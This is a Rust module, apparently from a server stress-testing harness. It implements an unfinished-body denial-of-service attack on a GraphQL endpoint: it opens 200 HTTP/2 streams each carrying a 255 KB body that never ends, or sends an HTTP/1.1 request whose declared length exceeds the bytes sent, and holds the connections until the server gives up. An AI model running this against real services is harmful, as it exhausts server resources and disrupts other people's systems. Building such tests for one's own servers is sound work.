//! Bodies that are there but for their end: the server has to keep them while it waits. Over HTTP/2 there are many of them on
//! one connection.

use std::io;
use std::sync::LazyLock;
use std::time::Duration;

use axum::body::Bytes;
use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::target::Attacker;
use super::wire::{self, Request};

/// Just what a body may have, without its end.
const LENGTH: usize = 255 * 1024;
/// Streams that are asked for on one connection.
const STREAMS: usize = 200;

static BODY: LazyLock<Bytes> = LazyLock::new(|| format!("{{\"query\":\"{}", " ".repeat(LENGTH)).into());

pub(crate) async fn round(attacker: &Attacker, _round: usize) -> io::Result<()> {
    let request = Request { body: BODY.clone(), ..Request::graphql("") };
    let request = match attacker.token() {
        Some(token) => request.with("authorization", token),
        None => request,
    };
    if attacker.speaks_http2() {
        streams(attacker, request).await
    } else {
        connection(attacker, &request).await
    }
}

async fn streams(attacker: &Attacker, request: Request) -> io::Result<()> {
    let mut client = wire::http2(attacker.target.address, 65_535).await?;
    let mut open = Vec::new();
    for _ in 0..STREAMS {
        let (again, answer, mut stream) = wire::begin(client, &request).await?;
        client = again;
        stream.send_data(request.body.clone(), false).map_err(io::Error::other)?;
        open.push((tokio::spawn(answer), stream));
        attacker.target.tally.count("unfinished streams");
    }
    // Until the server gives up.
    loop {
        sleep(Duration::from_millis(100)).await;
        client = client.ready().await.map_err(io::Error::other)?;
        open.retain(|(answer, _)| !answer.is_finished());
        if open.is_empty() {
            return Ok(());
        }
    }
}

async fn connection(attacker: &Attacker, request: &Request) -> io::Result<()> {
    let mut stream = wire::connect(attacker.target.address, None).await?;
    // It says that it has one byte more than there is.
    let mut bytes = request.bytes("keep-alive");
    bytes.pop();
    stream.write_all(&bytes).await?;
    attacker.target.tally.count("unfinished");
    loop {
        sleep(Duration::from_millis(500)).await;
        stream.writable().await?;
        if stream.try_read(&mut [0; 1024]).is_ok_and(|read| read == 0) {
            return Ok(());
        }
    }
}
